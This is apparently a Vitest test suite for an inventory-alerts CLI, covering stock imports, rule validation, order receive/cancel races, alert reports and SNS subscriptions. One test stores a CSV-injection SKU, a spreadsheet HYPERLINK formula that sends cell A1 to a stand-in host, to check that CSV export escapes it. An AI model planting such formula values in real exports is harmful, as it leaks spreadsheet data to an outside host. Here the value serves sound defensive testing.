import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CloudFormationClient, DescribeStacksCommand } from '@aws-sdk/client-cloudformation';
import { SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';
import { type DynamoDBDocumentClient, GetCommand, PutCommand } from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { runCli } from '../../cli/main.js';
import { awsTarget } from '../../cli/target.js';
import type { SandboxTables } from '../../sandbox/tables.js';
import { QuarantineStore } from '../../shared/adapters/quarantine.js';
import { ControlIndex, ControlKeys, DEFAULT_INDEX_SHARDS } from '../../shared/contracts/tables.js';
import { type CliFixture, cliFixture, statefulStackOutputs } from '../support/cli-fixture.js';
import { streamRecord } from '../support/factories.js';

let fixture: CliFixture;
let tables: SandboxTables;
let doc: DynamoDBDocumentClient;
const cli = (...argv: string[]) => fixture.cli(...argv);
const file = (name: string, text: string) => fixture.file(name, text);

beforeAll(async () => {
  fixture = await cliFixture(inject('dynamoEndpoint'), 'cli-');
  ({ tables, doc } = fixture);
});

describe('inventory-alerts CLI', () => {
  it('lists quarantined records with their reason and replays them by touching the item', async () => {
    await doc.send(
      new PutCommand({
        TableName: tables.inventory,
        Item: { sku: 'Q-1', location: 'WH-1', quantity: 4 },
      }),
    );
    const written = streamRecord({
      old: { sku: 'Q-1', location: 'WH-1', quantity: 20 },
      new: { sku: 'Q-1', location: 'WH-1', quantity: 'seven' },
    });
    // Written today: the quarantine is kept by the day the record was written.
    const poison = {
      ...written,
      dynamodb: { ...written.dynamodb, ApproximateCreationDateTime: Date.now() / 1000 },
    };
    const store = new QuarantineStore(doc, tables.control);
    await store.put(poison, 'NewImage is not an inventory item: quantity must be a number');
    await store.put(poison, 'the same record redelivered is kept once');

    const listed = await cli('dlq', 'list', '--json');
    expect(listed.code).toBe(0);
    const rows = JSON.parse(listed.out) as Record<string, string>[];
    expect(rows.filter((r) => r.eventId === poison.eventID)).toEqual([
      expect.objectContaining({
        sku: 'Q-1',
        reason: 'NewImage is not an inventory item: quantity must be a number',
        images: 'kept',
        replayedAt: '',
      }),
    ]);

    const replayed = await cli('dlq', 'replay', poison.eventID as string);
    expect(replayed).toMatchObject({ code: 0 });
    expect(replayed.out).toContain('replayed: the item is judged again on its current stock');
    const item = await doc.send(
      new GetCommand({ TableName: tables.inventory, Key: { sku: 'Q-1', location: 'WH-1' } }),
    );
    expect(item.Item).toMatchObject({ quantity: 4, quarantineReplayedAt: expect.any(String) });
    const after = JSON.parse((await cli('dlq', 'list', '--json')).out) as Record<string, string>[];
    expect(after.find((r) => r.eventId === poison.eventID)?.replayedAt).not.toBe('');
    expect((await cli('dlq', 'replay', 'no-such-event')).code).toBe(2);
  });

  it('shows help with examples, and refuses a missing target or an unknown command with exit 2', async () => {
    expect(await runCli(['--help'], { out: () => {}, err: () => {}, isTty: false })).toBe(0);
    const help: string[] = [];
    await runCli(['orders', '--help'], { out: (t) => help.push(t), err: () => {}, isTty: false });
    expect(help.join()).toContain('Example:');
    const errors: string[] = [];
    expect(
      await runCli(['rules', 'list'], { out: () => {}, err: (t) => errors.push(t), isTty: false }),
    ).toBe(2);
    expect(errors.join()).toContain('Choose a target');
    expect((await cli('teleport')).code).toBe(2);
  });

  it('puts a YAML rule, lists, gets and exports it, and deletes it', async () => {
    const put = await cli(
      'rules',
      'put',
      file(
        'rule.yaml',
        'scope: { category: toys }\nname: Toys\nthresholds: { LOW_STOCK: 4 }\nstrategies:\n  LOW_STOCK: { type: notify-only }\n',
      ),
    );
    expect(put.code).toBe(0);
    expect(put.out).toBe('1 rule(s) written: category#toys');
    expect(put.err).toMatch(/Open alerts are judged by it at each item's next stock change/);
    expect((await cli('rules', 'list')).out).toMatch(/category#toys.*Toys.*LOW_STOCK:notify-only/);
    expect(JSON.parse((await cli('rules', 'get', 'category#toys', '--json')).out)).toMatchObject({
      name: 'Toys',
      hysteresis: 0,
    });
    expect((await cli('rules', 'export')).out).toContain('category: toys');
    const deleted = await cli('rules', 'delete', 'category#toys');
    expect(deleted.code).toBe(0);
    expect(deleted.err).toContain('Open alerts are judged by it');
    expect((await cli('rules', 'get', 'category#toys')).code).toBe(2);
  });

  it('names a rule whose sku holds "#" by its escaped key, and refuses the unescaped one', async () => {
    const put = await cli(
      'rules',
      'put',
      file('hash.json', JSON.stringify({ scope: { sku: 'A#1' }, thresholds: { LOW_STOCK: 2 } })),
    );
    expect(put.code).toBe(0);
    expect(put.out).toBe('1 rule(s) written: sku#A\\#1');
    expect((await cli('rules', 'get', 'sku#A\\#1')).code).toBe(0);
    const unescaped = await cli('rules', 'get', 'sku#A#1');
    expect(unescaped.code).toBe(2);
    expect(unescaped.err).toContain('is not a rule key');
    expect((await cli('rules', 'delete', 'sku#A\\#1')).code).toBe(0);
  });

  it('refuses a rule whose derived LOW_STOCK could reach overstock, naming the fields', async () => {
    const result = await cli(
      'rules',
      'put',
      file(
        'contradicting.yaml',
        'scope: { category: staples }\nthresholds: { LOW_STOCK: auto, OVERSTOCK: 400 }\ndemand: { leadTimeDays: 5, fallbackLowStock: 10, maxLowStock: 500 }\n',
      ),
    );
    expect(result.code).toBe(2);
    expect(result.err).toContain(
      'demand.maxLowStock: must be below thresholds.OVERSTOCK − hysteresis (400 − 0 = 400)',
    );
    expect((await cli('rules', 'get', 'category#staples')).code).toBe(2);
  });

  it('refuses an import with an invalid rule, naming rule, field and reason, and writes nothing', async () => {
    const rules = [
      { scope: { sku: 'GOOD' }, thresholds: { LOW_STOCK: 3 } },
      { scope: { sku: 'BAD' }, thresholds: { LOW_STOCK: 3, OVERSTOCK: 2 } },
    ];
    const result = await cli('rules', 'import', file('rules.json', JSON.stringify(rules)));
    expect(result.code).toBe(2);
    expect(result.err).toContain('nothing was written');
    expect(result.err).toContain('rule 2 (sku#BAD)');
    expect(result.err).toContain('thresholds.OVERSTOCK: must be above LOW_STOCK + hysteresis (3)');
    expect((await cli('rules', 'get', 'sku#GOOD')).code).toBe(2);
  });

  it('sets, adjusts and reads stock', async () => {
    expect(
      (await cli('stock', 'set', 'CLI-1', '--location', 'WH-1', '--quantity', '10', '--create'))
        .code,
    ).toBe(0);
    expect((await cli('stock', 'adjust', 'CLI-1', '--location', 'WH-1', '--by', '-3')).out).toBe(
      'CLI-1 at WH-1: quantity 7',
    );
    expect(JSON.parse((await cli('stock', 'get', 'CLI-1', '--json')).out)).toEqual([
      expect.objectContaining({ sku: 'CLI-1', quantity: 7 }),
    ]);
    expect((await cli('stock', 'adjust', 'CLI-1', '--location', 'WH-1', '--by', 'many')).err).toBe(
      '--by must be a number, got "many"',
    );
  });

  it('refuses to set or adjust an item that does not exist unless --create, and writes nothing', async () => {
    const stockOf = async (sku: string, location: string) =>
      (await doc.send(new GetCommand({ TableName: tables.inventory, Key: { sku, location } })))
        .Item;
    // A mistyped SKU: no phantom item, so no out-of-stock alert and no order for it.
    const set = await cli('stock', 'set', 'CLI-TYPO', '--location', 'WH-1', '--quantity', '4');
    expect(set).toMatchObject({
      code: 2,
      err: 'No stock item CLI-TYPO at WH-1: check the SKU and location, or add --create to create it',
    });
    const adjust = await cli('stock', 'adjust', 'CLI-TYPO', '--location', 'WH-1', '--by', '-20');
    expect(adjust).toMatchObject({
      code: 2,
      err: 'No stock item CLI-TYPO at WH-1: check the SKU and location, or add --create to create it',
    });
    expect(await stockOf('CLI-TYPO', 'WH-1')).toBeUndefined();

    // --create says the item is new: it creates it, and refuses to overwrite one that exists.
    expect(
      (await cli('stock', 'adjust', 'CLI-NEW', '--location', 'WH-1', '--by', '6', '--create')).out,
    ).toBe('CLI-NEW at WH-1: quantity 6');
    expect(await stockOf('CLI-NEW', 'WH-1')).toMatchObject({ quantity: 6 });
    expect(
      await cli('stock', 'set', 'CLI-NEW', '--location', 'WH-1', '--quantity', '1', '--create'),
    ).toMatchObject({
      code: 2,
      err: 'CLI-NEW at WH-1 already exists: leave out --create to change it',
    });
    expect(await stockOf('CLI-NEW', 'WH-1')).toMatchObject({ quantity: 6 });
  });

  it('prints stock as CSV that a spreadsheet opens as text, not as a formula', async () => {
    const sku = '=HYPERLINK("http://x/?"&A1)';
    await doc.send(
      new PutCommand({
        TableName: tables.inventory,
        Item: { sku, location: 'WH-1', quantity: -5 },
      }),
    );
    expect((await cli('stock', 'get', sku, '--csv')).out.split('\n')).toEqual([
      'sku,location,name,quantity,price,category,listed',
      `"'=HYPERLINK(""http://x/?""&A1)",WH-1,,-5,,,`,
    ]);
  });

  it('imports a CSV with the same item twice in one chunk: the last row wins, the earlier is reported by line', async () => {
    const csv = file(
      'duplicates.csv',
      'sku,location,quantity\nDUP-1,WH-1,5\nDUP-2,WH-1,1\nDUP-1,WH-1,8\nDUP-1,WH-1,9\n',
    );
    const result = await cli('stock', 'import', csv);
    expect(result).toMatchObject({ code: 0, out: '2 row(s) written, 0 skipped, 2 replaced' });
    expect(result.err.split('\n')).toEqual([
      'line 2: replaced by line 4, which has the same sku and location',
      'line 4: replaced by line 5, which has the same sku and location',
    ]);
    const item = await doc.send(
      new GetCommand({ TableName: tables.inventory, Key: { sku: 'DUP-1', location: 'WH-1' } }),
    );
    expect(item.Item).toMatchObject({ quantity: 9 });
  });

  it('imports a CSV: good rows written, bad rows reported by line, and resumes after an interruption', async () => {
    const rows = ['sku,location,quantity,price,category'];
    for (let i = 0; i < 60; i++) rows.push(`IMP-${i},WH-1,${i},${i === 7 ? '-1' : '2.5'},bulk`);
    rows.push('IMP-X,,5,1,bulk', 'IMP-Y,WH-1,lots,1,bulk');
    const csv = file('stock.csv', `${rows.join('\n')}\n`);
    const result = await cli('stock', 'import', csv);
    expect(result.out).toBe('59 row(s) written, 3 skipped');
    expect(result.code).toBe(3);
    expect(result.err.split('\n')).toEqual([
      'line 9: skipped: price: price must not be negative',
      'line 62: skipped: location: location must not be empty',
      'line 63: skipped: quantity: quantity must be a number (N)',
      '3 row(s) skipped: fix them and import the file again (exit 3)',
    ]);
    const item = await doc.send(
      new GetCommand({ TableName: tables.inventory, Key: { sku: 'IMP-59', location: 'WH-1' } }),
    );
    expect(item.Item).toMatchObject({ quantity: 59, price: 2.5, category: 'bulk' });

    // An import stopped after line 40 resumes from line 41.
    writeFileSync(`${csv}.progress`, '40');
    const resumed = JSON.parse((await cli('stock', 'import', csv, '--resume', '--json')).out);
    expect(resumed).toMatchObject({ resumedAfterLine: 40, written: 21 });
  });

  it('receives an open order: stock up, order closed, lock released, ledgered', async () => {
    const at = new Date().toISOString();
    await doc.send(
      new PutCommand({
        TableName: tables.inventory,
        Item: { sku: 'CLI-PO', location: 'WH-1', quantity: 2 },
      }),
    );
    await doc.send(
      new PutCommand({
        TableName: tables.control,
        Item: { ...ControlKeys.openOrder('CLI-PO', 'WH-1'), orderId: 'PO-cli', at },
      }),
    );
    const orderKey = ControlKeys.order('PO-cli');
    await doc.send(
      new PutCommand({
        TableName: tables.control,
        Item: {
          ...orderKey,
          ...ControlIndex.attributes('ORDER', orderKey, at, DEFAULT_INDEX_SHARDS),
          orderId: 'PO-cli',
          sku: 'CLI-PO',
          location: 'WH-1',
          quantity: 30,
          status: 'OPEN',
          reason: 'alert-cli',
        },
      }),
    );
    expect((await cli('orders', 'list', '--open')).out).toContain('PO-cli');
    expect((await cli('orders', 'receive', 'PO-cli', '--quantity', '28')).out).toBe(
      'Order PO-cli received: CLI-PO at WH-1 +28',
    );
    const stock = await doc.send(
      new GetCommand({ TableName: tables.inventory, Key: { sku: 'CLI-PO', location: 'WH-1' } }),
    );
    expect(stock.Item?.quantity).toBe(30);
    const lock = await doc.send(
      new GetCommand({ TableName: tables.control, Key: ControlKeys.openOrder('CLI-PO', 'WH-1') }),
    );
    expect(lock.Item).toBeUndefined();
    expect((await cli('orders', 'receive', 'PO-cli')).err).toBe(
      'Order PO-cli is RECEIVED, not OPEN',
    );
    expect((await cli('ledger', 'list', '--sku', 'CLI-PO', '--since', '1h')).out).toMatch(
      /receive-order.*applied/,
    );
  });

  it('cancels an open order: lock released, order cancelled, ledgered; a receive and a cancel cannot both win', async () => {
    /** An open order with its lock, as the executor places it. */
    const place = async (sku: string, orderId: string) => {
      const at = new Date().toISOString();
      await doc.send(
        new PutCommand({
          TableName: tables.inventory,
          Item: { sku, location: 'WH-1', quantity: 2 },
        }),
      );
      await doc.send(
        new PutCommand({
          TableName: tables.control,
          Item: { pk: `ITEM#${sku}#WH-1`, sk: 'OPEN_ORDER', orderId, at },
        }),
      );
      await doc.send(
        new PutCommand({
          TableName: tables.control,
          Item: {
            pk: `ORDER#${orderId}`,
            sk: 'ORDER',
            orderId,
            sku,
            location: 'WH-1',
            quantity: 30,
            status: 'OPEN',
            reason: `alert-${orderId}`,
            at,
          },
        }),
      );
    };
    await place('CLI-CX', 'PO-cx');
    const cancelled = await cli('orders', 'cancel', 'PO-cx');
    expect(cancelled.err).toBe('');
    expect(cancelled.out).toBe('Order PO-cx cancelled: CLI-CX at WH-1 can be ordered again');
    const lock = await doc.send(
      new GetCommand({
        TableName: tables.control,
        Key: { pk: 'ITEM#CLI-CX#WH-1', sk: 'OPEN_ORDER' },
      }),
    );
    expect(lock.Item).toBeUndefined();
    const order = await doc.send(
      new GetCommand({ TableName: tables.control, Key: { pk: 'ORDER#PO-cx', sk: 'ORDER' } }),
    );
    expect(order.Item).toMatchObject({ status: 'CANCELLED' });
    expect((await cli('orders', 'receive', 'PO-cx')).err).toBe(
      'Order PO-cx is CANCELLED, not OPEN',
    );
    expect((await cli('orders', 'cancel', 'PO-cx')).code).toBe(2);
    expect((await cli('ledger', 'list', '--sku', 'CLI-CX', '--since', '1h')).out).toMatch(
      /cancel-order.*applied/,
    );

    await place('CLI-RACE', 'PO-race');
    const [receive, cancel] = await Promise.all([
      cli('orders', 'receive', 'PO-race'),
      cli('orders', 'cancel', 'PO-race'),
    ]);
    expect([receive.code, cancel.code].sort()).toEqual([0, 2]);
    const stock = await doc.send(
      new GetCommand({ TableName: tables.inventory, Key: { sku: 'CLI-RACE', location: 'WH-1' } }),
    );
    expect(stock.Item?.quantity).toBe(receive.code === 0 ? 32 : 2);
  });

  it('snoozes an item by laying a snooze over the rule in force, writing no rule', async () => {
    await cli(
      'rules',
      'put',
      file(
        'default.json',
        JSON.stringify({ scope: { default: true }, thresholds: { LOW_STOCK: 5 } }),
      ),
    );
    await doc.send(
      new PutCommand({
        TableName: tables.inventory,
        Item: { sku: 'CLI-1', location: 'WH-1', quantity: 10 },
      }),
    );
    const result = await cli('snooze', 'CLI-1', '--location', 'WH-1', '--for', '2h');
    expect(result.out).toMatch(
      /snoozed until .* \(overlay sku#CLI-1#location#WH-1, over: WH-1 → rule default\)/,
    );
    expect((await cli('rules', 'get', 'sku#CLI-1#location#WH-1')).code).toBe(2);
    expect((await cli('snooze', 'CLI-1', '--for', 'a while')).code).toBe(2);
  });

  it('lists open alerts and reports effectiveness from the ledger', async () => {
    const hour = 3_600_000;
    const t0 = Date.now() - 5 * hour;
    const stateKey = ControlKeys.alertState('CLI-OUT', 'WH-1');
    const triggeredAt = new Date(t0 + 3 * hour).toISOString();
    await doc.send(
      new PutCommand({
        TableName: tables.control,
        Item: {
          ...stateKey,
          ...ControlIndex.attributes('ALERTS', stateKey, triggeredAt, DEFAULT_INDEX_SHARDS),
          sku: 'CLI-OUT',
          location: 'WH-1',
          open: {
            OUT_OF_STOCK: { alertId: 'a2', threshold: 0, triggeredAt, announced: true },
          },
        },
      }),
    );
    const fact = (alertId: string, transition: string, at: number) => {
      const key = ControlKeys.ledger('CLI-OUT', 'WH-1', alertId, transition, 'pause-listing');
      return {
        ...key,
        ...ControlIndex.attributes('LEDGER', key, new Date(at).toISOString(), DEFAULT_INDEX_SHARDS),
        alertId,
        transition,
        level: 'OUT_OF_STOCK',
        sku: 'CLI-OUT',
        location: 'WH-1',
        strategy: 'pause-listing',
        outcome: 'applied',
        occurredAt: new Date(at).toISOString(),
      };
    };
    for (const item of [
      fact('a1', 'TRIGGERED', t0),
      fact('a1', 'RESOLVED', t0 + hour),
      fact('a2', 'TRIGGERED', t0 + 3 * hour),
    ]) {
      await doc.send(new PutCommand({ TableName: tables.control, Item: item }));
    }
    expect((await cli('alerts', 'list', '--open')).out).toMatch(/CLI-OUT.*OUT_OF_STOCK/);
    expect(
      (await cli('alerts', 'list', '--open', '--sku', 'CLI-NONE', '--location', 'WH-1')).out,
    ).toBe('(none)');
    const report = JSON.parse((await cli('report', '--since', '1d', '--json')).out);
    const row = report.items.find((r: { sku: string }) => r.sku === 'CLI-OUT');
    // JSON durations are numbers of seconds, as in the CSV, never text such as "22s".
    expect(row).toMatchObject({ alerts: 2, stillOpen: 1, recoverP50Seconds: hour / 1000 });
    expect(row).not.toHaveProperty('recoverP50Ms');
    expect(row.stockoutSeconds).toBeGreaterThanOrEqual((3 * hour - 1000) / 1000);
    expect(row.stockoutSeconds).toBeLessThan((3 * hour + 60_000) / 1000);
    expect((await cli('report', '--since', '1d', '--csv')).out.split('\n')[0]).toBe(
      'sku,location,level,alerts,stillOpen,recoverP50Seconds,recoverP90Seconds,stockoutSeconds',
    );
  });

  it('subscribes in the sandbox with the filter policy the stack would deploy, and validates addresses', async () => {
    expect((await cli('subscribe', 'sms', '0170 1234567')).err).toContain(
      'is not an E.164 phone number',
    );
    expect((await cli('subscribe', 'email', 'x@y')).code).toBe(2);
    expect(
      (await cli('subscribe', 'sms', '+14155550100', '--levels', 'OUT_OF_STOCK', '--no-resolved'))
        .code,
    ).toBe(0);
    const saved = JSON.parse(readFileSync(join(fixture.dir, 'subscriptions.json'), 'utf8'));
    expect(saved[0]).toMatchObject({
      protocol: 'sms',
      filterPolicy: { locale: ['en'], delivery: ['sms'], alert: ['OUT_OF_STOCK:TRIGGERED'] },
    });
    expect((await cli('subscriptions', 'list')).out).toContain('+14155550100');
    expect((await cli('subscriptions', 'remove', saved[0].id)).code).toBe(0);
  });
});

describe('against a deployed environment', () => {
  it('finds the resources in the stack outputs and subscribes through SNS with the filter policy', async () => {
    const cfn = mockClient(CloudFormationClient);
    const sns = mockClient(SNSClient);
    cfn
      .on(DescribeStacksCommand, { StackName: 'InventoryAlerts-prod-Stateful' })
      .resolves(statefulStackOutputs('arn:aws:sns:eu-west-1:123456789012:alerts'));
    sns
      .on(SubscribeCommand)
      .resolves({ SubscriptionArn: 'arn:aws:sns:eu-west-1:123456789012:alerts:sub-1' });
    const out: string[] = [];
    const code = await runCli(
      ['subscribe', 'email', 'buyer@example.com', '--categories', 'toys', '--env', 'prod'],
      { out: (t) => out.push(t), err: (t) => out.push(t), isTty: false },
      (g) =>
        awsTarget(g.env as string, {
          cloudFormation: new CloudFormationClient({ region: 'eu-west-1' }),
          sns: new SNSClient({ region: 'eu-west-1' }),
        }),
    );
    expect(code).toBe(0);
    expect(sns).toHaveReceivedCommandWith(SubscribeCommand, {
      TopicArn: 'arn:aws:sns:eu-west-1:123456789012:alerts',
      Protocol: 'email',
      Endpoint: 'buyer@example.com',
      Attributes: {
        FilterPolicy: JSON.stringify({ locale: ['en'], delivery: ['email'], category: ['toys'] }),
        FilterPolicyScope: 'MessageAttributes',
      },
    });
    cfn.on(DescribeStacksCommand).rejects(new Error('Stack does not exist'));
    const errors: string[] = [];
    const missing = await runCli(
      ['alerts', 'list', '--env', 'qa'],
      { out: () => {}, err: (t) => errors.push(t), isTty: false },
      (g) =>
        awsTarget(g.env as string, {
          cloudFormation: new CloudFormationClient({ region: 'eu-west-1' }),
        }),
    );
    expect(missing).toBe(2);
    expect(errors.join()).toContain('Is "qa" deployed');
    cfn.restore();
    sns.restore();
  });
});
